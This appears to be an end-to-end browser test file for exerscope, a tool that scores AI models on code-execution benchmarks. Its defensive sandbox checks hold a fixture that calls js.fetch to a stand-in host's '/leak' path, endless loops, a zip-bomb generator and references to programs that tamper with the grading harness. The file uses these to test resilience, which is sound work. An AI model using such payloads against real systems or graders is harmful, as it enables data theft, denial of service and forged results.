    await page.waitForSelector('#drilldown-table tbody tr');
    await page.click('#drilldown-table tbody tr:first-child');
    await page.waitForSelector('#program-view .prediction');
    const cards = await page.$$eval('#program-view .prediction', (p) => p.map((card) => card.textContent));
    // sample_0's input is f([1, 1, 3, 1, 3, 1]); another order of the same numbers gives the same output.
    if (!cards.some((c) => c.includes('correct') && /ran f\(\[1, 1, 1, 1, 3, 3\]\) in Python 3\.11\.3 \(confined: [^)]*\): returned the expected output/.test(c))) {
      throw new Error(`no run of another input judged right: ${cards.slice(0, 2)}`);
    }
    // sample_0 loops over its 6 numbers: the for header runs 7 times.
    if (!cards.some((c) => c.includes('longest loop 7 · recursion depth 1'))) throw new Error(`no trace: ${cards[0]}`);
    await page.screenshot({ path: path.join(out, 'runs.png'), fullPage: false });
  });

  await check('programs run in the browser can neither reach out nor hang the page', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-runs-'));
    const row = (id, code) => JSON.stringify({ id, model: 'm', benchmark: 'sandbox', task: 'input', code,
      input: 'f(1)', expected: '1', prediction: 'f(1)' });
    fs.writeFileSync(path.join(dir, 'sandbox.jsonl'), [
      row('network', `def f(x):\n    import js\n    js.fetch('http://192.0.2.1/leak')\n    return x\n`),
      row('forever', 'def f(x):\n    while True:\n        x += 1\n'),
      row('swallows', 'def f(x):\n    while True:\n        try:\n            x += 1\n        except BaseException:\n            pass\n'),
      row('fine', 'def f(x):\n    return x\n'),
    ].join('\n'));
    await dropFiles([path.join(dir, 'sandbox.jsonl')]);
    await waitDone();
    expectEqual(run(await overview(), 'm', 'sandbox'), [1, 4], 'only the harmless program is right');
    const said = {};
    for (const id of ['network', 'forever', 'swallows']) {
      await show('overview');
      await page.click('#overview-table tbody tr');
      await page.waitForSelector('#drilldown-table tbody tr');
      await page.click(`#drilldown-table tbody tr[data-program="${id}"]`);
      await page.waitForSelector(`#program-view[data-program="${id}"] .prediction`);
      said[id] = await page.textContent('#program-view .prediction .judges');
    }
    if (!said.network.includes('raised ModuleNotFoundError')) throw new Error(`import js: ${said.network}`);
    // An endless loop ends at its first limit: the clock, or the count of lines (5,000,000).
    for (const id of ['forever', 'swallows']) if (!/timed out|stopped after/.test(said[id])) throw new Error(`${id}: ${said[id]}`);
    fs.rmSync(dir, { recursive: true });
  });

  await check('hostile programs in the page: no way out, and no other program\'s verdict moves', async () => {
    // The corpus the command line's tests use: twenty honest programs (ten right), and programs that
    // patch the harness through gc, post to the worker's parent through Pyodide's JS proxies,
    // patch builtins for later runs, write fake reports… None of them expects what it returns.
    await dropFiles([path.join(root, 'tests', 'hostile', 'der_hostile.jsonl')]);
    await waitDone();
    expectEqual(run(await overview(), 'hostile', 'HumanEval (hostile\'s code)'), [10, 35], 'the honest programs only are right');
    const verdictOf = async (id) => {
      await show('overview');
      await page.click('#overview-table tbody tr');
      await page.waitForSelector('#drilldown-table tbody tr');
      // Its 35 rows: those past the first view are rendered once the box is scrolled, as by a reader.
      await page.$eval('#drilldown-table', (table) => table.closest('.windowed').scrollBy(0, 1));
      await page.click(`#drilldown-table tbody tr[data-program="${id}"]`);
      await page.waitForSelector(`#program-view[data-program="${id}"] .prediction`);
      return page.textContent('#program-view .prediction .judges');
    };
    const forged = await verdictOf('patches_the_harness');
    if (!forged.includes('ran f(5)')) throw new Error(`patches_the_harness: ${forged}`);
    // Pyodide's proxies need JavaScript's Function constructor, which is gone: the run raises, or
    // ends its worker (which is replaced).
    const reached = await verdictOf('reaches_javascript');
    if (!/raised RuntimeError: no way out|crashed: Function is not defined/.test(reached)) {
      throw new Error(`reaches_javascript: ${reached}`);
    }
    for (const id of ['wrong_0', 'wrong_9']) {
      const said = await verdictOf(id);
      if (!said.includes('not the expected output')) throw new Error(`${id}: ${said}`);
    }
  });

  await check('a drop nested 20,000 brackets deep, then a zip bomb, then a good drop: each analysed', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-deep-'));
    const deep = (n) => '['.repeat(n) + ']'.repeat(n);
    const program = (id, code, output) => JSON.stringify({ id, code, input: '1', output });
    fs.writeFileSync(path.join(dir, 'cruxeval.jsonl'), [
      program('sample_0', 'def f(x):\n    return x\n', '1'),
      program('sample_1', 'def f(x):\n    return x\n', deep(20000)),
      program('sample_2', `def f(x):\n    return ${'x + '.repeat(20000)}x\n`, '1'),
      program('sample_3', `def g(x):\n    return x\ndef f(x):\n    return ${'g('.repeat(20000)}x${')'.repeat(20000)}\n`, '1'),
    ].join('\n'));
    fs.mkdirSync(path.join(dir, 'm_output'));
    fs.writeFileSync(path.join(dir, 'm_output', 'generations.json'),
      JSON.stringify({ sample_0: ['1', deep(20000)], sample_1: ['1'], sample_2: ['1'], sample_3: ['1'] }));
    await dragFromDisk([path.join(dir, 'cruxeval.jsonl'), path.join(dir, 'm_output')]);
    await waitDone();
    expectEqual(run(await overview(), 'm', 'CRUXEval'), [3, 5], 'deep answers, outputs and code');
    if (!(await page.textContent('#messages')).includes('nest brackets deeper than Python allows')) {
      throw new Error('the deep answers are not told');
    }
    // 600 MiB of zeros in a zip of well under a megabyte (made by Python's zipfile).
    const bomb = path.join(dir, 'bomb.zip');
    execFileSync('python3', ['-c', `import zipfile\nwith zipfile.ZipFile(${JSON.stringify(bomb)}, 'w', zipfile.ZIP_DEFLATED) as z:\n    with z.open('zeros.jsonl', 'w', force_zip64=True) as f:\n        block = bytes(1 << 20)\n        for _ in range(600):\n            f.write(block)\n`]);
    await dropFiles([bomb, path.join(dir, 'cruxeval.jsonl')]);
    await waitDone();
    if (!(await page.textContent('#messages')).includes('archive too large')) throw new Error('the zip bomb is not told');
    await dropFiles([path.join(root, 'tests', 'hostile', 'cruxeval', 'cruxeval.jsonl')]);
    await waitDone();
    fs.rmSync(dir, { recursive: true });
  });

  await check('where Python cannot start, runs are told as not made and their predictions judged as text', async () => {
    const bare = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-no-python-'));
    fs.cpSync(path.join(root, 'dist'), bare, { recursive: true });
    fs.rmSync(path.join(bare, 'pyodide'), { recursive: true });
    const bareServer = await serve(bare, 0, BASE);
    const bareContext = await browser.newContext();
    const barePage = await bareContext.newPage();
    try {
      await barePage.goto(`http://127.0.0.1:${bareServer.address().port}${BASE}`);
      await barePage.waitForSelector('#drop-zone');
      const row = (id, prediction) => JSON.stringify({ id, model: 'm', benchmark: 'b', task: 'input',
        code: 'def f(x):\n    return x * x\n', input: 'f(2)', expected: '4', prediction });
      const file = path.join(bare, 'inputs.jsonl');
      fs.writeFileSync(file, [row('same', 'f(2)'), row('other', 'f(-2)')].join('\n'));
      await dropFiles([file], barePage);
      await barePage.waitForFunction(() => document.querySelector('#status').dataset.state === 'done', null, { timeout: 60000 });
      const messages = await barePage.textContent('#messages');
      if (!messages.includes('2 program run(s) needed for verdicts were not made (Python could not start')) {
        throw new Error(`no message says the runs were not made: ${messages}`);
      }
      const cells = await barePage.$$eval('#overview-table tbody tr td', (tds) => tds.map((td) => td.textContent.trim()));
      expectEqual([cells[3], cells[6]], ['1', '2'], 'correct and total when judged as text (f(-2) is not f(2))');
    } finally {
      await bareContext.close();
      bareServer.close();
      fs.rmSync(bare, { recursive: true });
    }
  });

  await check('CRUXEval-X results in every language: each file counts as its own res, placeholders excluded', async () => {
    const grammarsLoaded = () => requested.some((url) => url.endsWith('/grammars/exerscope-grammars_bg.wasm'));
    if (grammarsLoaded()) throw new Error('the second parsing module was loaded before any drop needed it');
    await dragFromDisk([path.join(fixtures, 'cruxeval-x')]);
    await waitDone();
    const messages = await page.textContent('#messages');
    for (const told of ['102 placeholder entries', '1 placeholder entry', 'in Racket: exerscope does not parse', 'in Perl: exerscope does not parse']) {
      if (!messages.includes(told)) throw new Error(`"${told}" not told: ${messages}`);
    }
    // Every program's properties are the command line's: the other languages were parsed by the
    // second module (every grammar), which a drop of Python and Java alone never loads. Parsing
    // starts once the first view is shown (what waitDone waits for): the module comes after.
    for (let waited = 0; !grammarsLoaded(); waited += 100) {
      if (waited > 60000) throw new Error('the second parsing module was not loaded');
      await page.waitForTimeout(100);
    }
    await show('exports');
    const report = await download(() => page.click('#export-report-json'));
    const shownPrograms = JSON.parse(fs.readFileSync(await report.path(), 'utf8')).programs;
    if (!cli) throw new Error('no exerscope command line built (cargo build -p exerscope-cli)');
    const cliPrograms = JSON.parse(execFileSync(cli, ['analyze', '--no-run', path.join(fixtures, 'cruxeval-x')],
      { maxBuffer: 1 << 30, stdio: ['ignore', 'pipe', 'ignore'] })).programs;
    const parsedShape = (rows) => rows.map((p) => JSON.stringify([p.benchmark, p.id, p.properties.constructs,
      p.properties.loc, p.properties.mccabe_max, p.properties.lines])).sort();
    expectEqual(parsedShape(shownPrograms), parsedShape(cliPrograms), "every CRUXEval-X program's properties, page and command line");
    const go = shownPrograms.find((p) => p.benchmark === 'CRUXEval-X Go' && p.id === '10');
    expectEqual(go.properties.constructs, ['if', 'for'], 'a Go program parsed in the browser');
    await show('overview');
    const labels = { cpp: 'C++', go: 'Go', java: 'Java', jl: 'Julia', js: 'JavaScript', py: 'Python', rs: 'Rust', sh: 'Shell' };
    const results = path.join(fixtures, 'cruxeval-x/infer_results/phi-1');
    const expected = fs.readdirSync(results).map((name) => {
      const [language] = name.split('_');
      const verdicts = JSON.parse(fs.readFileSync(path.join(results, name))).filter((e) => typeof e.res === 'boolean');
      const task = name.replace(/^[a-z]+_|\.json$/g, '');
      return [`CRUXEval-X ${labels[language]}`, task, verdicts.filter((e) => e.res).length, verdicts.length];
    });
    const shown = await runsOfEveryTask();
    const sorted = (list) => list.map((r) => JSON.stringify(r)).sort();
    expectEqual(sorted(shown.map((r) => [r.benchmark, r.task, r.correct, r.total])), sorted(expected),
      'CRUXEval-X runs: correct and total of each file');
  });

  await check('RE2-Bench as its repository lays it out: every validation file a run of its rs count, groups by source and difficulty', async () => {
    await dragFromDisk([path.join(fixtures, 're2bench')]);
    await waitDone();
    const validations = path.join(fixtures, 're2bench/results/validations');
    const expected = fs.readdirSync(validations).filter((name) => name.endsWith('.csv')).map((name) => {
      const rows = fs.readFileSync(path.join(validations, name), 'utf8').trim().split('\n').slice(1);
      const stem = name.replace(/\.csv$/, '');
      const [, model, task, setting] = stem.match(/^(.*)_(input|output)(?:_prediction_(wocot|wohint))?$/);
      const named = setting ? `${model} (${setting === 'wocot' ? 'no CoT' : 'no hint'})` : model;
      return [named, task, rows.filter((row) => row.split(',')[2] === '1').length, rows.length];
    });
    const everyRun = await runsOfEveryTask();
    const shown = everyRun.filter((r) => ['input', 'output'].includes(r.task)).map((r) => [r.model, r.task, r.correct, r.total]);
    const sorted = (list) => list.map((r) => JSON.stringify(r)).sort();
    expectEqual(sorted(shown), sorted(expected), 'RE2-Bench runs');
    // Loop and branch prediction judged by RE2-Bench's own validators (as framework_formats.rs).
    const judged = everyRun.filter((r) => r.model === 'cwm' && ['loop', 'branch'].includes(r.task))
      .map((r) => [r.task, r.correct, r.total]);
    expectEqual(sorted(judged), sorted([['loop', 33, 197], ['branch', 90, 199]]), 'cwm loop and branch');
    const messages = await page.textContent('#messages');
    if (messages.includes('not a recognised')) throw new Error(`a file of RE2-Bench left unnamed: ${messages}`);
    // The task shown: each of its runs in 6 sources and 2 levels.
    await page.screenshot({ path: path.join(out, 're2bench.png'), fullPage: true });
    await page.selectOption('#task', 'output');
    await page.waitForFunction(() => document.querySelector('#overview-table tbody tr td:nth-child(3)')
      ?.textContent.trim() === 'output');
    const task = await page.$eval('#task', (select) => select.value);
    const attributes = await page.$$eval('#groups-table tbody tr', (rows) => rows.map((r) => r.dataset.attribute));
    const count = (name) => attributes.filter((a) => a === name).length;
    const runs = expected.filter((run) => run[1] === task).length;
    if (count('source') + count('difficulty') !== runs * 8) {
      throw new Error(`${attributes.length} group rows of ${task}, expected ${runs * 8} of source and difficulty (6 sources, 2 levels)`);
    }
    // Its failure reports' causes (5, and "none found"), which are the problems': for every run.
    if (count('failure cause') !== runs * 6) throw new Error(`${count('failure cause')} failure-cause rows, expected ${runs * 6}`);
    await page.click('#groups-table tbody tr[data-attribute="difficulty"][data-value="easy"] button');
    await page.waitForSelector('#drilldown tbody tr');
    const heading = await page.textContent('#drilldown');
    if (!heading.includes('programs of difficulty easy')) throw new Error(`the group's programs not opened: ${heading.slice(0, 200)}`);
    // Each reasoning model and ablation against its base, seen from the variant.
    await show('models');
    await page.waitForSelector('#variant-table tbody tr');
    const variants = await page.$$eval('#variant-table tbody tr', (rows) => rows.map((r) =>
      [...r.cells].slice(0, 4).map((c) => c.textContent).join(' | ')));
    if (!variants.includes(`gpt-5-mini-reasoning | gpt-5-mini | all | reasoning`)) {
      throw new Error(`the reasoning model is not paired with its base: ${JSON.stringify(variants)}`);
    }
    await page.locator('#variant-table').screenshot({ path: path.join(out, 're2bench-variants.png') });
    // The methods list says which of RE2-Bench's own numbers are reproduced.
    await show('exports');
    await page.click('#methods summary');
    const own = await page.$$eval('#own-numbers tbody tr', (rows) => rows.map((r) => r.cells[2].textContent));
    await page.locator('#own-numbers').screenshot({ path: path.join(out, 're2bench-own-numbers.png') });
    if (own.length < 5 || !own.includes('reproduced') || !own.includes("computed exerscope's way")) {
      throw new Error(`RE2-Bench's own numbers: ${JSON.stringify(own)}`);
    }
  });

  await check("RE2-Bench's loop answers against their runs: the Reasoning section's numbers are the command line's; a program shows its steps, the first divergence marked", async () => {
    // The RE2-Bench drop of the check before.
    await show('reasoning');
    if (!cli) throw new Error('no exerscope command line built (cargo build -p exerscope-cli)');
    const re2 = path.join(fixtures, 're2bench');
    const report = JSON.parse(execFileSync(cli, ['analyze', '--no-run', path.join(re2, 'dataset'), path.join(re2, 'results')],
      { maxBuffer: 1 << 30, stdio: ['ignore', 'pipe', 'ignore'] }));
    // The output responses whose prose states values of the run: the command line's counts.
    await page.waitForSelector('#prose-claims tbody tr');
    const prose = await page.$$eval('#prose-claims tbody tr', (rows) => rows.map((r) =>
      [r.dataset.model, r.cells[2].textContent, r.cells[3].textContent, r.cells[6].textContent]));
    expectEqual(prose.map((r) => JSON.stringify(r)).sort(),
      report.prose_claims.map((s) => JSON.stringify([s.model, String(s.responses), String(s.with_claims), String(s.claims)])).sort(),
      'responses with claims in their prose, page and command line');
    await page.click('#reasoning-tasks button[data-task="loop"]');
    await page.waitForSelector('#reasoning-summary tbody tr');
    const shown = await page.$$eval('#reasoning-summary tbody tr', (rows) => rows.map((r) =>
      [...r.cells].slice(0, 10).map((c) => c.textContent.trim())));
    const endings = ['agrees', 'differs', 'stops_early', 'runs_on', 'renumbered', 'unclaimed', 'no_claims'];
    const expected = report.divergence_summaries.filter((s) => s.task === 'loop').map((s) =>
      [s.model, s.benchmark, String(s.predictions), ...endings.map((e) => String(s.endings[e]))]);
    expectEqual(shown.map((r) => JSON.stringify(r)).sort(), expected.map((r) => JSON.stringify(r)).sort(),
      'the loop answers\' endings, page and command line');
    const coherence = await page.$$eval('#reasoning-coherence figure', (figures) => figures.length);
    if (coherence !== 4) throw new Error(`${coherence} coherence tables, expected one per model`);
    // Where reasoning first breaks, drawn: one chart for RE2-Bench's loop answers.
    await page.waitForSelector('canvas.reasoning-kinds-chart[data-drawn="true"]');
    const kindCharts = await page.$$eval('canvas.reasoning-kinds-chart', (cs) => cs.map((c) => c.dataset.figure));
    expectEqual(kindCharts, ['reasoning-kinds-RE2-Bench-loop'], 'the line-kind charts');
    await page.locator('#reasoning figure').first().screenshot({ path: path.join(out, 're2bench-reasoning-kinds.png') });
    // By construct: the page's rows are the command line's, count for count.
    const byConstruct = await page.$$eval('#reasoning-constructs tbody tr', (rows) => rows.map((r) =>
      [r.dataset.model, r.dataset.place, r.cells[2].textContent]));
    expectEqual(byConstruct.map((r) => JSON.stringify(r)).sort(),
      report.divergence_constructs.filter((c) => c.task === 'loop')
        .map((c) => JSON.stringify([c.model, c.place, `${c.diverged} of ${c.reached}`])).sort(),
      'first divergences by construct, page and command line');
    await page.screenshot({ path: path.join(out, 're2bench-reasoning.png'), fullPage: true });
    // A wrong answer's program: its steps beside the run's, the first divergence marked and in view.
    await page.click('#reasoning-answers tbody tr[data-ending="differs"] button');
    await page.waitForSelector('#program-view .alignment .first-divergence');
    const inView = await page.$eval('#program-view .alignment .first-divergence', (row) => {
      const box = row.closest('.steps-scroll').getBoundingClientRect();
      const r = row.getBoundingClientRect();
      return r.top >= box.top && r.bottom <= box.bottom;
    });
    if (!inView) throw new Error('the first divergence is not scrolled into its table');
    const summary = await page.textContent('#program-view .alignment-summary');
    if (!summary.includes('first parts from the run at line')) throw new Error(`no first divergence told: ${summary}`);
    await page.locator('#program-view .alignment').first().screenshot({ path: path.join(out, 're2bench-steps.png') });
  });

  await check('CoCoNUT traces: every run counts its Matched column, every call a sample', async () => {
    await dragFromDisk([path.join(fixtures, 'coconut')]);
    await waitDone();
    const rows = await overview();
    const gpt = rows.find((r) => r.model === 'GPT (HumanEval_CoT_T0_NoReps)');
    if (!gpt || gpt.correct !== 451 || gpt.total !== 1083) throw new Error(`CoCoNUT runs: ${JSON.stringify(rows)}`);
    // Each answer placed on its executed lines: it agrees throughout exactly when Matched.
    await show('reasoning');
    await page.click('#reasoning-tasks button[data-task="trace"]');
    await page.waitForSelector('#reasoning-summary tbody tr');
    const agreeing = await page.$$eval('#reasoning-summary tbody tr', (trs) => trs.map((r) =>
      [r.cells[0].textContent.trim(), r.cells[3].textContent.trim()]));
    const noReps = agreeing.find(([model]) => model === 'GPT (HumanEval_CoT_T0_NoReps)');
    if (!noReps || noReps[1] !== '451') throw new Error(`CoCoNUT endings: ${JSON.stringify(agreeing)}`);
    await page.waitForSelector('canvas.reasoning-kinds-chart[data-drawn="true"]');
    await page.locator('#reasoning figure').first().screenshot({ path: path.join(out, 'coconut-reasoning-kinds.png') });
    await page.screenshot({ path: path.join(out, 'coconut-reasoning.png'), fullPage: true });
    await page.click('#reasoning-answers tbody tr[data-ending="differs"] button');
    await page.waitForSelector('#program-view .alignment .first-divergence');
    const summary = await page.textContent('#program-view .alignment-summary');
    if (!/first parts from the run at line \d+, step \d+/.test(summary)) throw new Error(`no step told: ${summary}`);
    await page.locator('#program-view .alignment').first().screenshot({ path: path.join(out, 'coconut-steps.png') });
  });

  await check('REval runs with the benchmark: one task each, judged by REval rules', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-reval-'));
    const writeRun = (task, results) => {
      const folder = path.join(dir, 'model_generations', `${task}@gpt-4_cot_temp0.0`);
      fs.mkdirSync(folder, { recursive: true });
      const line = { task_id: 'DREval/0', generation: [{ input_idx: 0, results }] };
      fs.writeFileSync(path.join(folder, '20240601.jsonl'), `${JSON.stringify(line)}\n{"acc": 0.5}\n`);
    };
    writeRun('coverage', [{ generated: 'YES', response: true, expected: true }, { generated: 'NO', response: false, expected: true }]);
    writeRun('path', [{ generated: '17', response: [17], expected: [15, 17] }]);
    await dragFromDisk([path.join(fixtures, 'reval', 'data', 'DREval_data.jsonl'), path.join(dir, 'model_generations')]);
    await waitDone();
    const tasks = await page.$$eval('#task option', (options) => options.map((o) => o.value));
    expectEqual(tasks, ['coverage', 'path'], 'REval tasks offered');
    await page.selectOption('#task', 'coverage');
    await page.waitForFunction(() => document.querySelector('#overview-table tbody tr td:nth-child(3)')?.textContent.trim() === 'coverage');
    expectEqual(run(await overview(), 'gpt-4 (cot, T=0.0)', 'DREval'), [1, 2], 'coverage questions right');
    await show('overview');
    await page.click('#overview-table tbody tr');
    await page.waitForSelector('#drilldown-table tbody tr');
    await page.click('#drilldown-table tbody tr:first-child');
    await page.waitForSelector('#program-view .prediction');
    const asked = await page.$$eval('#program-view .prediction', (cards) => cards.map((c) => c.querySelector('p.explain code')?.textContent));
    expectEqual(asked[0], 'has_close_elements([1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.3)', 'the input a question is about');
    fs.rmSync(dir, { recursive: true });
  });

  await check('a benchmark no model answered, dropped beside answered ones: its hardest programs expected', async () => {
    // CodeMind's dataset adds Avatar in Java, which neither model of the artifact answered.
    const exerscope = path.join(fixtures, 'exerscope');
    await dragFromDisk([path.join(exerscope, 'dataset'), path.join(exerscope, 'Experiment_Results'), path.join(fixtures, 'codemind', 'dataset')]);
    await waitDone();
    // The prediction is fitted again once the runs' properties are in: the numbers read are those.
    await page.waitForSelector('#runs-status[data-state="done"]', { timeout: 600000 });
    await show('models');
    const rows = 'table.expected[data-task="output"] tbody tr';
    await page.waitForSelector(rows, { timeout: 300000 });
    const listed = await page.$$eval(rows, (trs) => trs.map((r) => [r.dataset.benchmark, parseFloat(r.cells[2].textContent)]));
    expectEqual(listed.length, 20, 'the hardest programs listed');
    if (!listed.every(([benchmark]) => benchmark === 'Avatar-Java')) throw new Error(`not Avatar-Java: ${listed}`);
    if (!listed.every(([, rate], i) => i === 0 || listed[i - 1][1] <= rate)) throw new Error(`not hardest first: ${listed}`);
    // The hardest program's mean and range are those of its rows in the JSON report.
    const first = await page.$eval(rows, (r) => [r.dataset.program, r.cells[2].textContent.trim(), r.cells[3].textContent.trim()]);
    await show('exports');
    const report = JSON.parse(fs.readFileSync(await (await download(() => page.click('#export-report-json'))).path(), 'utf8'));
    const own = report.expected.filter((e) => e.task === 'output' && e.program === first[0]).map((e) => e.probability);
    const pct = (v) => `${(v * 100).toFixed(1)}%`;
    const mean = own.reduce((a, b) => a + b, 0) / own.length;
    expectEqual(first.slice(1), [pct(mean), `${(Math.min(...own) * 100).toFixed(1)}–${pct(Math.max(...own))}`], 'the hardest program, page and JSON report');
    await show('models');
    await page.locator('table.expected').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'expected.png') });
    // The sections of success show the answered benchmarks' success and, under it, the profile of
    // the one no model answered (Java: parsed, not run, so not run twice either).
    await show('overview');
    await page.waitForSelector('section.profile[data-profile="overview"] table.profile-counts');
    const counts = await page.$$eval('section.profile[data-profile="overview"] table.profile-counts tbody tr',
      (rows) => rows.map((r) => [...r.children].map((c) => c.textContent)));
    const java = counts.find((row) => row[0] === 'Avatar-Java');
    if (!java) throw new Error(`Avatar-Java not profiled: ${JSON.stringify(counts)}`);
    expectEqual(java.slice(1, 4), [java[1], java[1], '0'], 'Avatar-Java profiled: all parsed, none run');
    expectEqual(java.slice(5), ['–', '–'], 'Avatar-Java not run twice');
    expectEqual(counts.at(-1)[0], 'CRUXEval (800 programs, shipped)', 'beside CRUXEval');
    if ((await overview()).length === 0) throw new Error('the answered benchmarks lost their success table');
    await show('constructs');
    await page.waitForSelector('#profile-constructs[data-drawn="true"]');
    expectEqual(await page.$$eval('#constructs', (found) => found.length), 1, 'the success chart stays above the profile');
    await page.screenshot({ path: path.join(out, 'designer-beside-results-constructs.png'), fullPage: true });
  });

  await check('programs without any prediction: each section says in one line what it lacks and profiles them beside CRUXEval, the program table lists and exports them', async () => {
    await dragFromDisk([path.join(fixtures, 'exerscope', 'dataset', 'Avatar')]);
    await waitDone();
    const lacking = {};
    for (const section of ['overview', 'constructs', 'properties', 'types', 'models', 'reasoning', 'programs', 'sources', 'exports']) {
      await show(section);
      lacking[section] = await page.$$eval(`.section[data-section="${section}"] > p.without-predictions`, (ps) => ps.map((p) => p.textContent));
    }
    for (const [section, lines] of Object.entries(lacking)) {
      const says = !['reasoning', 'programs', 'sources'].includes(section);
      if (lines.length !== (says ? 1 : 0) || (says && !lines[0].startsWith("No model's predictions were dropped"))) {
        throw new Error(`${section} says ${JSON.stringify(lines)}`);
      }
    }
    // (An earlier check's filter stays in the view: cleared.)
    await show('programs');
    await page.fill('#program-filter', '');
    await page.waitForFunction(() => Number(document.querySelector('#program-table')?.getAttribute('aria-rowcount')) > 1);
    const total = Number(await page.getAttribute('#program-table', 'aria-rowcount')) - 1;
    expectEqual(total, 86, 'Avatar programs in the table');
    const lines = fs.readFileSync(await (await download(() => page.click('#export-programs-csv'))).path(), 'utf8').trim().split('\n');
    expectEqual(lines.length - 1, 86, 'Avatar programs exported');
    // Each section that shows success profiles the programs instead, beside CRUXEval's shipped
    // numbers, once their runs are in; no empty frame of success is drawn.
    await page.waitForSelector('#runs-status[data-state="done"]', { timeout: 600000 });
    await show('overview');
    await page.waitForSelector('section.profile[data-profile="overview"] table.profile-counts');
    const counts = await page.$$eval('section.profile[data-profile="overview"] table.profile-counts tbody tr',
      (rows) => rows.map((r) => [...r.children].map((c) => c.textContent)));
    expectEqual(counts.map((row) => row[0]), ['Avatar', 'CRUXEval (800 programs, shipped)'], 'profiled benchmarks');
    expectEqual(counts[0].slice(1, 3), ['86', '86'], 'Avatar: programs, parsed');
    // (A run Pyodide cannot make — a thread, a module it lacks — has no verdict: 85 of 86 here.)
    if (!(Number(counts[0][3]) >= 80 && Number(counts[0][3]) <= 86)) throw new Error(`Avatar runs with a verdict: ${counts[0][3]}`);
    // CRUXEval's programs, run twice when it was measured, gave the same each time.
    expectEqual(counts[1].slice(1), ['800', '800', '800', '0', '800', '0'], 'CRUXEval as shipped');
    expectEqual(counts[0][5], counts[0][3], 'Avatar: each program with a verdict run twice');
    // Listed: the runs that missed, and those that gave another output when run again.
    const said = Number((await page.textContent('#unexpected-runs-said')).split(' ')[0]);
    const [missed, changed] = [Number(counts[0][4]), Number(counts[0][6])];
    if (!(said >= missed && said <= missed + changed)) throw new Error(`${said} runs listed, ${missed} missed, ${changed} changed`);
    expectEqual(await page.$$eval('.section[data-section="overview"] #overview-chart', (c) => c.length), 0, 'no empty overview chart');
    await page.screenshot({ path: path.join(out, 'without-predictions-overview.png'), fullPage: true });
    for (const [section, chart] of [['constructs', 'profile-constructs'], ['properties', 'profile-property'], ['types', 'profile-types']]) {
      await show(section);
      await page.waitForSelector(`#${chart}[data-drawn="true"]`);
      await page.screenshot({ path: path.join(out, `without-predictions-${section}.png`), fullPage: true });
    }
    expectEqual(await page.$$eval('table.profile-medians tbody tr', (rows) => rows.length), 16, 'a median per property but the run time');
    expectEqual(await page.$$eval('#types, #constructs', (found) => found.length), 0, 'no empty success charts');
  });

  await check('a benchmark being designed: a program that shuffles its list gives another output when run again, also from the runs this browser kept', async () => {
    for (const drop of ['first', 'kept']) {
      await dragFromDisk([path.join(root, 'tests', 'formats', 'designer', 'dataset')]);
      await waitDone();
      await page.waitForSelector('#runs-status[data-state="done"]', { timeout: 120000 });
      await show('overview');
      await page.waitForSelector('section.profile[data-profile="overview"] table.profile-counts');
      const newbench = await page.$eval('section.profile[data-profile="overview"] table.profile-counts tbody tr',
        (row) => [...row.children].map((c) => c.textContent));
      // Four programs, four runs; p3's expected output is wrong; p4 shuffles.
      expectEqual(newbench, ['newbench', '4', '4', '4', '2', '4', '1'], `newbench's counts (${drop} drop)`);
      const shuffled = await page.$$eval('table.unexpected-runs tbody tr', (rows) => rows
        .filter((r) => r.cells[0].textContent.includes('p4')).map((r) => [r.cells[2].textContent, r.cells[3].textContent]));
      if (shuffled.length !== 1 || !shuffled[0][1] || shuffled[0][0] === shuffled[0][1]) throw new Error(`p4: ${JSON.stringify(shuffled)}`);
    }
    await page.screenshot({ path: path.join(out, 'designer-overview.png'), fullPage: true });
  });

  await check('a CSV of unknown columns is mapped in a form, and the mapping is kept for the session', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-csv-'));
    const csv = path.join(dir, 'my-runs.csv');
    fs.writeFileSync(csv, 'problem,llm,ok,guess\np1,alpha,true,1\np2,alpha,false,2\np3,alpha,true,3\n');
    await dropFiles([csv]);
    await waitDone();
    await page.waitForSelector('.mapping-form[data-file="my-runs.csv"]');
    await page.selectOption('.mapping-form select[data-field="id"]', 'problem');
    await page.selectOption('.mapping-form select[data-field="model"]', 'llm');
    await page.selectOption('.mapping-form select[data-field="correct"]', 'ok');
    await (await page.$('.mapping-form')).screenshot({ path: path.join(out, 'mapping-form.png') });
    await page.click('.mapping-form button');
    await waitDone();
    expectEqual(run(await overview(), 'alpha', 'table'), [2, 3], 'alpha, mapped');
    expectEqual(await page.$$eval('.mapping-form', (forms) => forms.length), 0, 'forms left');
    await dropFiles([csv]);
    await waitDone();
    expectEqual(run(await overview(), 'alpha', 'table'), [2, 3], 'alpha, dropped again: the mapping is remembered');
    fs.rmSync(dir, { recursive: true });
  });

  await check('a hundred models: heatmaps instead of radars and bars, a model picker the views follow', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-many-'));
    const file = path.join(dir, 'hundred.jsonl');
    execFileSync('node', [path.join(root, 'tools/synthetic.mjs'), '--programs', '200', '--models', '100', '--out', file]);
    await dropFiles([file]);
    await waitDone();
    expectEqual((await overview()).length, 100, 'overview rows');
    await show('overview');
    await page.waitForSelector('#overview-chart[data-figure="overview"][data-drawn="true"]');
    await page.screenshot({ path: path.join(out, 'hundred-overview.png') });
    // The leaderboard ranks all of them, best first (one benchmark: no pooled column).
    const successes = await page.$$eval('table.leaderboard tbody tr td[data-success]', (c) => c.map((x) => Number(x.dataset.success)));
    expectEqual(successes.length, 100, 'models on the leaderboard');
    if (successes.some((rate, i) => i > 0 && rate > successes[i - 1])) throw new Error(`leaderboard not best first: ${successes.slice(0, 5)}`);
    // The heatmaps' rows follow it.
    const ranked = await page.$$eval('table.leaderboard tbody tr', (rows) => rows.map((row) => row.dataset.model));
    await page.locator('table.leaderboard').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'hundred-leaderboard.png') });
    await show('constructs');
    await page.waitForSelector('canvas.heatmap[data-figure^="construct-heatmap-synthetic"][data-drawn="true"]');
    expectEqual(await page.$$eval('canvas.radar', (c) => c.length), 0, 'radars with 100 models');
    await page.screenshot({ path: path.join(out, 'hundred-constructs.png') });
    // Types: a heatmap per benchmark, and a pivot with a column per model.
    await show('types');
